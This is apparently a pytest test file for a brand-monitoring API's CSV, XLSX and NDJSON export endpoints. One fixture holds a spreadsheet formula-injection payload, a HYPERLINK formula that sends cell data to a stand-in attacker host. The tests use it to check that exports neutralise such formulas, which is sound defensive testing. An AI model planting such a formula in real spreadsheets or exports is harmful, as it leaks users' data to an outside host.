"""Exports over the API: mentions and stats as CSV, XLSX and NDJSON, over real stores."""

from __future__ import annotations

import csv
import io
import json
from datetime import timedelta
from typing import Any

import openpyxl
import pytest
from fastapi.testclient import TestClient

from services.core.models import AuthorDetails, Engagement, Sentiment, SentimentLabel
from services.runtime.app.context import ServiceContext
from tests.factories import BASE_TIME, make_mention

NEG = Sentiment(label=SentimentLabel.NEGATIVE, score=0.9)
POS = Sentiment(label=SentimentLabel.POSITIVE, score=0.8)
WINDOW = {"since": (BASE_TIME - timedelta(days=60)).isoformat()}
HOSTILE = '=HYPERLINK("https://evil.example/?x="&A1,"clic")'


@pytest.fixture
def mentions(ctx: ServiceContext) -> ServiceContext:
    batch = [
        make_mention(
            id=f"m{i:04d}",
            text=f"Livraison en retard pour mon Veloria numéro {i}, déçu",
            language="fr",
            brands=["Veloria"],
            competitors=["Trekko"],
            sentiment=POS,
            brand_sentiments={"Veloria": NEG, "Trekko": POS},
            author="Zoé" if i % 2 else "bob",
            author_details=AuthorDetails(display_name="Zoé L.", followers=1200) if i % 2 else None,
            engagement=Engagement(likes=i, shares=1),
            topics=["delivery", "after-sales"],
            published_at=BASE_TIME - timedelta(hours=i),
        )
        for i in range(1200)  # more than a chunk of rows and a page of the index
    ]
    batch.append(
        make_mention(
            id="hostile",
            text=HOSTILE,
            brands=["Veloria"],
            sentiment=NEG,
            language="en",
            published_at=BASE_TIME + timedelta(hours=1),
        )
    )
    ctx.index.upsert(batch)
    return ctx


def _csv(body: bytes, sep: str = ",") -> list[dict[str, str]]:
    text = body.decode("utf-8")
    assert text.startswith("\ufeff")  # Excel reads the accents as UTF-8
    return list(csv.DictReader(io.StringIO(text[1:]), delimiter=sep))


def test_csv_export_has_every_match_and_the_expected_columns(
    mentions: ServiceContext, client: TestClient
) -> None:
    response = client.get("/api/v1/export/mentions", params={"q": "lang:fr"})
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("text/csv")
    assert 'filename="veille-mentions-' in response.headers["content-disposition"]
    rows = _csv(response.content)
    assert len(rows) == 1200 == mentions.index.count(_filter("lang:fr"))
    assert [r["id"] for r in rows[:2]] == ["m1199", "m1198"]  # oldest first
    first = {r["id"]: r for r in rows}["m0001"]
    assert first["date"] == (BASE_TIME - timedelta(hours=1)).strftime("%Y-%m-%d %H:%M:%S")
    assert first["author"] == "Zoé" and first["author_name"] == "Zoé L."
    assert first["followers"] == "1200"
    assert first["text"] == "Livraison en retard pour mon Veloria numéro 1, déçu"
    assert first["brands"] == "Veloria" and first["competitors"] == "Trekko"
    assert first["sentiment"] == "positive"  # overall...
    assert first["sentiment:Veloria"] == "negative"  # ...and toward each name
    assert first["sentiment:Trekko"] == "positive"
    assert first["topics"] == "delivery; after-sales"
    assert (first["likes"], first["shares"], first["views"]) == ("1", "1", "")
    assert first["community"] == "example.org" and first["language"] == "fr"
    assert {r["followers"] for r in rows if r["author"] == "bob"} == {""}  # never invented


def _filter(q: str):  # type: ignore[no-untyped-def]
    from services.core.query import parse_query
    from services.store.contracts import MentionFilter

    return MentionFilter(query=parse_query(q))


def test_csv_cells_that_look_like_formulas_stay_text(
    mentions: ServiceContext, client: TestClient
) -> None:
    response = client.get("/api/v1/export/mentions", params={"q": "lang:en", "sep": ";"})
    (row,) = _csv(response.content, sep=";")
    assert row["text"] == "'" + HOSTILE


def test_a_french_excel_csv_marks_decimals_with_a_comma(
    mentions: ServiceContext, client: TestClient
) -> None:
    """`sep=;` is the French Excel's dialect, which reads `0,9` as a number and `0.9` as
    text; the default dialect keeps the point."""
    from services.exports.writers import csv_chunks

    french = client.get("/api/v1/export/mentions", params={"q": "lang:en", "sep": ";"})
    plain = client.get("/api/v1/export/mentions", params={"q": "lang:en"})
    (fr_row,) = _csv(french.content, sep=";")
    (row,) = _csv(plain.content)
    assert "." in row["sentiment_score"] and "," not in row["sentiment_score"]
    assert fr_row["sentiment_score"] == row["sentiment_score"].replace(".", ",")
    # The tables of the stats exports (any float cell) follow the same dialect.
    table = b"".join(csv_chunks(["share", "count"], [[0.25, 3]], delimiter=";")).decode()
    assert table.splitlines()[1] == "0,25;3"
    table = b"".join(csv_chunks(["share", "count"], [[0.25, 3]])).decode()
    assert table.splitlines()[1] == "0.25,3"


def test_ndjson_export(mentions: ServiceContext, client: TestClient) -> None:
    response = client.get("/api/v1/export/mentions", params={"q": "author:zoe", "format": "ndjson"})
    assert response.headers["content-type"] == "application/x-ndjson"
    lines = response.text.splitlines()
    assert len(lines) == 600
    record = json.loads(lines[-1])
    assert record["id"] == "m0001" and record["followers"] == 1200
    assert record["brands"] == ["Veloria"] and record["likes"] == 1
    assert record["sentiment_toward"] == {"Veloria": "negative", "Trekko": "positive"}
    assert record["date"].startswith((BASE_TIME - timedelta(hours=1)).date().isoformat())


def test_xlsx_export_reads_back(mentions: ServiceContext, client: TestClient) -> None:
    response = client.get("/api/v1/export/mentions", params={"format": "xlsx"})
    assert response.status_code == 200
    workbook = openpyxl.load_workbook(io.BytesIO(response.content), read_only=True)
    sheet = workbook["mentions"]
    rows = list(sheet.iter_rows(values_only=True))
    header = list(rows[0])
    assert len(rows) == 1 + 1201
    by_id = {row[header.index("id")]: row for row in rows[1:]}
    hostile = by_id["hostile"]
    assert hostile[header.index("text")] == HOSTILE  # a text cell, never run as a formula
    one = by_id["m0001"]
    assert one[header.index("followers")] == 1200
    assert one[header.index("date")] == (BASE_TIME - timedelta(hours=1)).replace(tzinfo=None)
    assert one[header.index("sentiment:Veloria")] == "negative"
    workbook.close()


def _triaged(client: TestClient) -> None:
    change = {"state": "escalated", "assignee": "=Legal team", "add_tags": ["legal", "vip"]}
    answer = client.patch("/api/v1/triage/mentions/m0003", json=change)
    assert answer.status_code == 200, answer.text
    answer = client.patch("/api/v1/triage/mentions/m0005", json={"state": "in progress"})
    assert answer.status_code == 200, answer.text


@pytest.mark.parametrize("fmt", ["csv", "xlsx", "ndjson"])
def test_exports_carry_the_triage(mentions: ServiceContext, client: TestClient, fmt: str) -> None:
    """State, assignee and tags, as a community manager left them, in every format."""
    _triaged(client)
    response = client.get(
        "/api/v1/export/mentions", params={"q": "author:zoe", "format": fmt, **WINDOW}
    )
    assert response.status_code == 200
    rows: dict[str, dict[str, object]]
    if fmt == "csv":
        rows = {r["id"]: dict(r) for r in _csv(response.content)}
        escalated: tuple[object, ...] = ("escalated", "'=Legal team", "legal; vip")
        untouched: tuple[object, ...] = ("new", "", "")
    elif fmt == "xlsx":
        sheet = openpyxl.load_workbook(io.BytesIO(response.content), read_only=True)["mentions"]
        header, *cells = list(sheet.iter_rows(values_only=True))
        rows = {str(r[header.index("id")]): dict(zip(header, r, strict=True)) for r in cells}
        escalated = ("escalated", "=Legal team", "legal; vip")  # a text cell, never a formula
        untouched = ("new", None, "")  # an empty list, as the topics column writes it
    else:
        rows = {r["id"]: r for r in map(json.loads, response.text.splitlines())}
        escalated = ("escalated", "=Legal team", ["legal", "vip"])
        untouched = ("new", None, [])
    columns = ("triage_state", "assignee", "tags")
    assert tuple(rows["m0003"][c] for c in columns) == escalated
    assert rows["m0005"]["triage_state"] == "in_progress"
    assert tuple(rows["m0007"][c] for c in columns) == untouched


@pytest.mark.parametrize("fmt", ["csv", "xlsx", "ndjson"])
def test_a_query_with_a_syntax_error_streams_nothing(
    mentions: ServiceContext, client: TestClient, fmt: str
) -> None:
    response = client.get("/api/v1/export/mentions", params={"q": "veloria AND (", "format": fmt})
    assert response.status_code == 400
    assert response.headers["content-type"] == "application/problem+json"
    assert response.json()["position"] == 13
    assert "content-disposition" not in response.headers
    bad_window = client.get(
        "/api/v1/export/mentions",
        params={"since": "2026-02-01", "until": "2026-01-01", "format": fmt},
    )
    assert bad_window.status_code == 400


def test_export_of_a_saved_search(mentions: ServiceContext, client: TestClient) -> None:
    saved = {"name": "zoe", "query": "author:zoé", "filters": {"languages": ["fr"]}}
    assert client.post("/api/v1/saved-searches", json=saved).status_code == 201
    rows = _csv(client.get("/api/v1/export/mentions", params={"saved_search": "zoe"}).content)
    assert len(rows) == 600 and {r["author"] for r in rows} == {"Zoé"}
    narrowed = client.get(
        "/api/v1/export/mentions", params={"saved_search": "zoe", "q": "numéro NEAR/0 1"}
    )
    assert [r["id"] for r in _csv(narrowed.content)] == ["m0001"]
    missing = client.get("/api/v1/export/mentions", params={"saved_search": "nope"})
    assert missing.status_code == 404


def test_a_mistyped_parameter_is_refused_naming_the_close_one(
    mentions: ServiceContext, client: TestClient
) -> None:
    """`saved=` for `saved_search=` used to export every mention."""
    saved = {"name": "zoe", "query": "author:zoé"}
    assert client.post("/api/v1/saved-searches", json=saved).status_code == 201
    typo = client.get("/api/v1/export/mentions", params={"saved": "zoe"})
    assert typo.status_code == 422
    assert typo.headers["content-type"].startswith("application/problem+json")
    assert "'saved' (did you mean 'saved_search'?)" in typo.json()["detail"]
    assert typo.json()["errors"] == [
        {"field": "saved", "message": "unknown query parameter", "code": "unknown_query_parameter"}
    ]
    near = client.get("/api/v1/export/stats/volume", params={"intervall": "day"})
    assert "'intervall' (did you mean 'interval'?)" in near.json()["detail"]
    brand = client.get("/api/v1/export/stats/sentiment", params={"brand": "Veloria", **WINDOW})
    assert brand.status_code == 422
    assert "'brand' (filter with q=brand:NAME" in brand.json()["detail"]
    assert "toward" in brand.json()["detail"]
    # the parameters a route does take, its dependencies' included, still pass
    sov = client.get("/api/v1/export/stats/share-of-voice", params={"brand": "Veloria", **WINDOW})
    assert sov.status_code == 200, sov.text


def test_stats_exports_hold_the_apis_figures(mentions: ServiceContext, client: TestClient) -> None:
    params = {"brand": "Veloria", **WINDOW}
    answer = client.get("/api/v1/stats/share-of-voice", params=params).json()
    rows = _csv(client.get("/api/v1/export/stats/share-of-voice", params=params).content)
    assert [(r["name"], int(r["count"])) for r in rows] == [
        (s["name"], s["count"]) for s in answer["shares"]
    ]
    assert rows[0]["sentiment:negative"] == str(answer["shares"][0]["sentiment"]["negative"])

    series = client.get("/api/v1/stats/sentiment", params={"interval": "day", **WINDOW}).json()
    exported = client.get(
        "/api/v1/export/stats/sentiment", params={"interval": "day", "format": "ndjson", **WINDOW}
    )
    lines = [json.loads(line) for line in exported.text.splitlines()]
    assert lines == series["buckets"]

    authors = _csv(
        client.get(
            "/api/v1/export/stats/breakdown", params={"dimension": "author", **WINDOW}
        ).content
    )
    assert [(r["key"], r["count"]) for r in authors] == [
        ("Zoé", "600"),
        ("bob", "600"),
        ("someone", "1"),
    ]
    xlsx = client.get("/api/v1/export/stats/top-terms", params={"format": "xlsx", **WINDOW})
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx.content), read_only=True)["top-terms"]
    words = [row[0] for row in sheet.iter_rows(min_row=2, values_only=True)]
    assert "déçu" in words and "veloria" not in words
    wrong = client.get("/api/v1/export/stats/breakdown", params={"dimension": "nope"})
    assert wrong.status_code == 422


def test_exports_are_in_the_openapi_document(client: TestClient) -> None:
    paths = client.get("/api/v1/openapi.json").json()["paths"]
    route = paths["/api/v1/export/mentions"]["get"]
    assert {"text/csv", "application/x-ndjson"} <= set(route["responses"]["200"]["content"])
    names = {p["name"] for p in route["parameters"]}
    assert {"q", "saved_search", "since", "until", "format", "sep"} <= names
    for stats in ("volume", "sentiment", "share-of-voice", "breakdown", "top-terms", "authors"):
        exported = paths[f"/api/v1/export/stats/{stats}"]["get"]
        assert "format" in {p["name"] for p in exported["parameters"]}
    assert "dimension" in {
        p["name"] for p in paths["/api/v1/export/stats/breakdown"]["get"]["parameters"]
    }


def test_exports_need_a_key(mentions: ServiceContext, client: TestClient) -> None:
    response = client.get("/api/v1/export/mentions", headers={"X-API-Key": "wrong"})
    assert response.status_code == 401
    stats = client.get("/api/v1/export/stats/volume", headers={"X-API-Key": "wrong"})
    assert stats.status_code == 401


@pytest.mark.parametrize("fmt", ["csv", "ndjson"])
def test_a_large_export_is_split_over_workers_with_the_same_bytes(
    mentions: ServiceContext, client: TestClient, monkeypatch: pytest.MonkeyPatch, fmt: str
) -> None:
    import services.exports.mentions as module
    from services.exports.parallel import parallel_chunks as real

    params = {"q": "lang:fr", "format": fmt, "sep": ";"}
    alone = client.get("/api/v1/export/mentions", params=params)
    splits: list[int] = []

    def counted(index_url: str, windows: list[Any], **kwargs: Any) -> Any:
        splits.append(len(windows))
        return real(index_url, windows, **kwargs)

    monkeypatch.setattr(module, "parallel_chunks", counted)
    monkeypatch.setattr(module, "SPLIT_FROM", 1000)  # "large" from 1,000 matches
    monkeypatch.setattr(module, "PER_WINDOW", 300)
    split = client.get("/api/v1/export/mentions", params=params)
    assert splits and splits[0] > 3  # the 1,200 matches went to the workers in windows
    assert split.status_code == alone.status_code == 200
    assert split.content == alone.content
    small = client.get("/api/v1/export/mentions", params={"q": "lang:en", "format": fmt})
    assert small.status_code == 200 and len(splits) == 1  # one match: in-process


def test_a_text_longer_than_an_excel_cell_ends_with_a_marker(
    ctx: ServiceContext, client: TestClient
) -> None:
    """XLSX cuts at 32,767 characters (Excel's limit), visibly; CSV keeps it whole."""
    long_text = "Veloria " + "x" * 39_992
    ctx.index.upsert([make_mention(id="long", text=long_text, brands=["Veloria"])])
    xlsx = client.get("/api/v1/export/mentions", params={"format": "xlsx"})
    rows = list(
        openpyxl.load_workbook(io.BytesIO(xlsx.content), read_only=True)["mentions"].iter_rows(
            values_only=True
        )
    )
    cell = rows[1][list(rows[0]).index("text")]
    assert len(cell) == 32_767
    assert cell.endswith("… [truncated: 40,000 characters in CSV/NDJSON]")
    assert long_text.startswith(cell.split("…")[0])
    (row,) = _csv(client.get("/api/v1/export/mentions").content)
    assert row["text"] == long_text


def test_stats_count_columns_keep_a_fixed_order(ctx: ServiceContext, client: TestClient) -> None:
    """Sentiment columns are negative, neutral, positive whatever the data holds (here no
    neutral mention, and more positive than negative ones)."""
    ctx.index.upsert(
        [
            make_mention(
                id=f"s{i}",
                text=f"Veloria {i}",
                brands=["Veloria"],
                sentiment=POS if i % 3 else NEG,
                published_at=BASE_TIME - timedelta(hours=i),
            )
            for i in range(6)
        ]
    )
    for path, params in (("sentiment", {}), ("share-of-voice", {"brand": "Veloria"})):
        body = client.get(f"/api/v1/export/stats/{path}", params={**params, **WINDOW})
        assert body.status_code == 200, body.text
        header = body.content.decode("utf-8").lstrip("\ufeff").splitlines()[0].split(",")
        counts = [c for c in header if c.startswith(("by:", "sentiment:"))]
        prefix = counts[0].partition(":")[0]
        assert counts == [f"{prefix}:negative", f"{prefix}:neutral", f"{prefix}:positive"], header
